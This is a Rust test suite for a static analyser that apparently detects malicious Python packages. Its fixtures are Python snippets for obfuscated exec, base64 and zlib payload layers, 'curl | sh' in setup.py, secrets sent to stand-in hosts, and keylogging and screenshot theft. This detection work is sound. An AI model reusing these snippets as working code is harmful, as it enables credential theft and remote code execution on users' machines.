use crate::*;

fn facts(src: &str) -> FileFacts {
    analyze("pkg/mod.py", src.as_bytes(), FileRole::Module)
}

fn call_names(f: &FileFacts) -> Vec<&str> {
    f.calls.iter().map(|c| c.name.as_str()).collect()
}

#[test]
fn aliases_resolve() {
    let f = facts(
        "import subprocess as sp\nfrom os import system as s\nx = __import__('os')\nimport importlib\ny = importlib.import_module('socket')\nsp.Popen('id')\ns('id')\nx.popen('id')\ny.socket()\n",
    );
    let names = call_names(&f);
    for want in ["subprocess.Popen", "os.system", "os.popen", "socket.socket"] {
        assert!(names.contains(&want), "{want} not in {names:?}");
    }
}

#[test]
fn builtins_through_getattr_and_globals() {
    let f = facts(
        "getattr(__builtins__, 'ex' + 'ec')('1')\nglobals()['__builtins__'].eval('2')\n__import__('builtins').compile('x', 'y', 'exec')\n",
    );
    let names = call_names(&f);
    for want in ["builtins.exec", "builtins.eval", "builtins.compile"] {
        assert!(names.contains(&want), "{want} not in {names:?}");
    }
}

#[test]
fn strings_fold_from_pieces() {
    let f = facts(
        "a = 'htt' + 'ps://evil.example/x'\nb = ''.join([chr(104), chr(105)])\nc = 'moc.live'[::-1]\nd = bytes.fromhex('6869').decode()\ne = ''.join(map(chr, [111, 115]))\nf = ''.join(chr(c) for c in [97, 98])\n",
    );
    let values: Vec<&str> = f.strings.iter().map(|s| s.value.as_str()).collect();
    assert!(values.contains(&"https://evil.example/x"), "{values:?}");
    let folded: Vec<&str> = f
        .strings
        .iter()
        .filter(|s| s.folded)
        .map(|s| s.value.as_str())
        .collect();
    assert!(folded.contains(&"evil.com"), "{values:?}");
    // short folded strings are below the string-fact threshold, but fold as arguments:
    let g = facts("import os\nos.system(''.join(map(chr, [105, 100, 32, 45, 97])))\n");
    assert_eq!(
        g.calls.iter().find(|c| c.name == "os.system").unwrap().args[0]
            .text()
            .as_deref(),
        Some("id -a")
    );
}

#[test]
fn obfuscated_chr_via_builtin_reprs() {
    // prompt-tookit style: getattr(__builtins__, 'chr') spelled from reprs of builtins.
    let src = "x = ''.join(map(getattr(__builtins__, oct.__str__()[-3 << 0] + hex.__str__()[-1 << 2] + copyright.__str__()[4 << 0]), [119, 105, 110, 51, 50]))\n";
    let f = facts(src);
    assert!(
        f.strings.iter().any(|s| s.value == "win32"),
        "{:?}",
        f.strings
    );
}

#[test]
fn arguments_remember_their_sources() {
    let f = facts(
        "import base64, requests\np = base64.b64decode('aGk=')\nexec(p)\nr = requests.get('http://x')\nexec(r.text)\n",
    );
    let execs: Vec<&Call> = f.calls_named("builtins.exec").collect();
    assert_eq!(execs.len(), 2);
    assert!(execs[0].args[0].from_call(|c| c == "base64.b64decode"));
    assert!(execs[1].args[0].from_call(|c| c == "requests.get"));
}

/// The analysis gives the trigger of where code is written and the scope it sits in; the
/// program model (malpi-program) lifts what entry points reach.
#[test]
fn facts_sit_in_the_scope_they_are_written_in() {
    let f = facts(
        "import os\nos.system('a')\ndef f():\n    os.system('b')\ndef g():\n    os.system('c')\ng()\nif __name__ == '__main__':\n    os.system('d')\n",
    );
    let t: Vec<(String, Trigger, &str)> = f
        .calls_named("os.system")
        .map(|c| {
            let scope = &f.scopes[c.span.scope as usize];
            (
                c.args[0].text().unwrap(),
                c.trigger,
                scope.qualname.as_str(),
            )
        })
        .collect();
    assert_eq!(
        t,
        vec![
            ("a".into(), Trigger::Import, "<module>"),
            ("b".into(), Trigger::Runtime, "f"),
            ("c".into(), Trigger::Runtime, "g"),
            ("d".into(), Trigger::Runtime, "<main>")
        ]
    );
    let kinds: Vec<ScopeKind> = f.scopes.iter().map(|s| s.kind).collect();
    assert_eq!(
        kinds,
        vec![
            ScopeKind::Module,
            ScopeKind::Function,
            ScopeKind::Function,
            ScopeKind::MainGuard
        ]
    );
    let s = analyze(
        "setup.py",
        b"def f():\n    import os\n    os.system('x')\n",
        FileRole::SetupPy,
    );
    assert_eq!(s.calls[0].trigger, Trigger::Install);
}

#[test]
fn python2_falls_back_to_tokens() {
    let src = "import urllib2\nprint \"hi\"\nexec \"import os\"\nurllib2.urlopen('http://evil.example/p').read()\n";
    let f = facts(src);
    assert!(matches!(
        f.status,
        ParseStatus::Recovered { .. } | ParseStatus::Tokens { .. }
    ));
    let names = call_names(&f);
    assert!(names.contains(&"urllib2.urlopen"), "{names:?}");
    assert!(names.contains(&"builtins.exec"), "{names:?}");
}

#[test]
fn hostile_nesting_is_bounded() {
    let deep = format!(
        "x = {}1{}\nimport os\nos.system('id')\n",
        "(".repeat(100_000),
        ")".repeat(100_000)
    );
    let f = facts(&deep);
    assert!(matches!(f.status, ParseStatus::Tokens { .. }));
    assert!(call_names(&f).contains(&"os.system"));
    let chain = format!("x = 1{}\n", "+1".repeat(50_000));
    let f = std::thread::Builder::new()
        .stack_size(256 << 20)
        .spawn(move || analyze("m.py", chain.as_bytes(), FileRole::Module))
        .unwrap()
        .join()
        .unwrap();
    assert!(f.truncated);
}

#[test]
fn pth_runs_only_import_lines() {
    let f = analyze(
        "x.pth",
        b"/some/path\nimport os; os.system('id')\n",
        FileRole::Pth,
    );
    assert_eq!(f.calls[0].name, "os.system");
    assert_eq!(f.calls[0].trigger, Trigger::Install);
    assert_eq!(f.calls[0].span.line, 2);
}

#[test]
fn names_looked_up_by_eval_resolve() {
    let f = facts(
        "e = eval('eval')\nc = eval(\"comp\" + \"ile\")\nimport os\ns = eval('os.system')\ne(c('1', '<s>', 'eval'))\ns('id')\n",
    );
    let names = call_names(&f);
    for want in ["builtins.eval", "builtins.compile", "os.system"] {
        assert!(names.contains(&want), "{want} not in {names:?}");
    }
}

#[test]
fn code_run_from_a_string_is_analysed_at_the_running_call() {
    let f = analyze(
        "setup.py",
        b"x = 1\nexec(\"import os\\nos.system('curl http://e.example/a | sh')\")\n",
        FileRole::SetupPy,
    );
    let system = f
        .calls
        .iter()
        .find(|c| c.name == "os.system")
        .expect("inner call seen");
    assert_eq!(system.span.line, 2);
    assert_eq!(system.trigger, Trigger::Install);
    assert_eq!(f.embedded.len(), 1);
    assert!(
        f.strings
            .iter()
            .any(|s| s.value.contains("curl http://e.example"))
    );
}

#[test]
fn code_in_strings_nests_only_so_deep() {
    // exec(base64.b64decode("...")) 34 layers down: followed to the limit, then a stop is noted.
    let mut code = String::from("import os; os.system('id')");
    for _ in 0..34 {
        let encoded = base64_encode(code.as_bytes());
        code = format!("import base64\nexec(base64.b64decode('{encoded}'))");
    }
    let f = facts(&code);
    assert!(f.embedded.len() >= 30, "{}", f.embedded.len());
    assert!(f.embedded.iter().all(|e| e.depth <= 32));
    assert!(f.decoding_stopped.is_some());
    assert_eq!(f.embedded[0].chain, vec!["base64.b64decode".to_string()]);
}

#[test]
fn facts_of_a_decoded_layer_name_their_chain() {
    let payload = base64_encode(b"import os\nos.system('id')\n");
    let f = facts(&format!(
        "import base64\nx = 1\nexec(base64.b64decode('{payload}'))\n"
    ));
    let system = f
        .calls
        .iter()
        .find(|c| c.name == "os.system")
        .expect("decoded call");
    assert_eq!(system.span.layer, 1);
    assert_eq!(system.span.line, 3);
    let via = f.provenance(system.span.layer).unwrap();
    assert_eq!(via, "pkg/mod.py:3 → base64.b64decode → <payload>");
}

fn base64_encode(data: &[u8]) -> String {
    const ALPHABET: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let mut out = String::new();
    for chunk in data.chunks(3) {
        let n =
            chunk.iter().fold(0u32, |acc, &b| acc << 8 | u32::from(b)) << (8 * (3 - chunk.len()));
        for i in 0..4 {
            if i <= chunk.len() {
                out.push(ALPHABET[(n >> (18 - 6 * i) & 63) as usize] as char);
            } else {
                out.push('=');
            }
        }
    }
    out
}

#[test]
fn decoders_fold_through_layers() {
    // zlib of base64, codecs rot13, repeating-key XOR: each folds to the hidden text.
    let f = facts(
        "import base64, zlib, codecs, itertools\n\
         a = zlib.decompress(base64.b64decode('eJzLzC3ILyrJLwYAD4sDfg=='))\n\
         b = codecs.decode('vzcbeg bf', 'rot13')\n\
         c = bytes(x ^ k for x, k in zip(b'\\x1d\\x01\\x5c\\x01\\x0b\\x01\\x06\\x17\\x1f', itertools.cycle(b'r')))\n",
    );
    let values: Vec<&str> = f.strings.iter().map(|s| s.value.as_str()).collect();
    for want in ["importos", "import os", "os.system"] {
        assert!(
            values.iter().any(|v| v.contains(want)),
            "{want} not in {values:?}"
        );
    }
}

#[test]
fn a_decompression_bomb_stops_at_the_budget_and_says_so() {
    use std::io::Write;
    let mut z = flate2::write::ZlibEncoder::new(Vec::new(), flate2::Compression::best());
    z.write_all(&vec![b'#'; crate::decoders::MAX_DECODED + 1])
        .unwrap();
    let blob: String = z
        .finish()
        .unwrap()
        .iter()
        .map(|b| format!("\\x{b:02x}"))
        .collect();
    let f = facts(&format!("import zlib\nexec(zlib.decompress(b'{blob}'))\n"));
    assert!(f.embedded.is_empty());
    let why = f.decoding_stopped.expect("the stop is recorded");
    assert!(why.contains("grew past"), "{why}");
}

fn flows_of(src: &str) -> Vec<Flow> {
    facts(src).flows
}

#[test]
fn pycurl_options_carry_the_body_to_the_url() {
    let flows = flows_of(
        "import pycurl, os\ndef f():\n    d = os.environ['AWS_SECRET_ACCESS_KEY']\n    c = pycurl.Curl()\n    c.setopt(pycurl.URL, 'http://203.0.113.5/x')\n    c.setopt(pycurl.POSTFIELDS, d)\n    c.perform()\n",
    );
    let f = flows
        .iter()
        .find(|f| f.call == "pycurl.Curl.setopt")
        .expect("a pycurl flow");
    assert_eq!(f.sink, SinkKind::Network);
    assert_eq!(f.destination.text.as_deref(), Some("http://203.0.113.5/x"));
    assert!(f.destination.literal);
}

#[test]
fn code_fed_to_a_shell_on_stdin_is_run() {
    let run = |src: &str| {
        flows_of(src)
            .into_iter()
            .any(|f| f.sink == SinkKind::Exec && f.call == "subprocess.run")
    };
    assert!(run(
        "import subprocess, requests\ns = requests.get('http://x.example/a.sh').text\nsubprocess.run(['bash'], input=s)\n"
    ));
    let popen = |src: &str| {
        flows_of(src)
            .into_iter()
            .any(|f| f.sink == SinkKind::Exec && f.call.starts_with("subprocess.Popen."))
    };
    assert!(popen(
        "import subprocess, requests\ns = requests.get('http://x.example/a.sh').text\np = subprocess.Popen(['sh', '-s'], stdin=subprocess.PIPE)\np.communicate(s.encode())\n"
    ));
    assert!(popen(
        "import subprocess, requests\ns = requests.get('http://x.example/a.sh').text\np = subprocess.Popen('bash', stdin=subprocess.PIPE)\np.stdin.write(s)\n"
    ));
    assert!(!popen(
        "import subprocess, requests\ns = requests.get('http://x.example/a').text\np = subprocess.Popen(['sort'], stdin=subprocess.PIPE)\np.communicate(s)\n"
    ));
    // Data a script reads on its stdin is not code.
    assert!(!run(
        "import subprocess, requests\ns = requests.get('http://x.example/a').text\nsubprocess.run(['bash', 'job.sh'], input=s)\n"
    ));
}

#[test]
fn captures_and_writes_into_buffers_are_followed() {
    let sources = |src: &str| -> Vec<Source> {
        flows_of(src)
            .into_iter()
            .flat_map(|f| f.data.atoms.into_iter().map(|a| a.source))
            .collect()
    };
    let keys = sources(
        "import keyboard, requests\nev = keyboard.record(until='enter')\nrequests.post('https://x.example', data=' '.join(keyboard.get_typed_strings(ev)))\n",
    );
    assert!(keys.iter().any(|s| matches!(s, Source::Surveillance(_))));
    let shot = sources(
        "import io, requests\nfrom PIL import ImageGrab\nimg = ImageGrab.grab()\nbuf = io.BytesIO()\nimg.save(buf, 'PNG')\nrequests.post('https://x.example', data=buf.getvalue())\n",
    );
    assert!(shot.iter().any(|s| matches!(s, Source::Surveillance(_))));
    let mail = sources(
        "import smtplib, os\nfrom email.message import EmailMessage\nm = EmailMessage()\nm.set_content(open(os.path.expanduser('~/.netrc')).read())\ns = smtplib.SMTP('mail.example')\ns.send_message(m)\n",
    );
    assert!(mail.iter().any(|s| matches!(s, Source::FileContent(_))));
}

#[test]
fn an_address_whose_host_is_read_at_run_time_is_not_the_packages() {
    let dest = |src: &str| {
        flows_of(src)
            .into_iter()
            .find(|f| f.call == "requests.post")
            .expect("a flow")
            .destination
    };
    let d = dest(
        "import requests, os\ndef f(host):\n    requests.post(f'https://{host}/v2/', data=os.environ['X'])\n",
    );
    assert!(!d.literal);
    let d = dest(
        "import requests, os\nrequests.post(os.environ['URL'] + '/e', data=dict(os.environ))\n",
    );
    assert!(!d.literal);
    let d = dest(
        "import requests, os\ndef f(k):\n    requests.post(f'https://{k}.ngrok.io/', data=os.environ['X'])\n",
    );
    assert!(d.literal);
}
